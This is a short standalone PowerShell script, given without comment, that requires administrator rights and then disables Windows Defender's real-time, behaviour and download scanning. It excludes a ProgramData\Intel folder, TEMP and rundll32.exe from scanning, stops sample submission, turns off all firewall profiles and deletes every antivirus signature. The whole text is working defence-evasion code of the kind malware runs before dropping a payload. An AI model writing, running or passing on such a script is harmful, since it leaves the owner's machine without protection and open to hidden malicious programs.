if (-not ([Security.Principal.WindowsPrincipal][Security.Principal.WindowsIdentity]::GetCurrent()).IsInRole([Security.Principal.WindowsBuiltInRole]::Administrator)) { exit }
Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true
Add-MpPreference -ExclusionPath 'C:\ProgramData\Intel', "$env:TEMP"
Add-MpPreference -ExclusionProcess 'rundll32.exe'
Set-MpPreference -MAPSReporting 0 -SubmitSamplesConsent 2
Set-NetFirewallProfile -Profile Domain, Public, Private -Enabled False
& "$env:ProgramFiles\Windows Defender\MpCmdRun.exe" -RemoveDefinitions -All
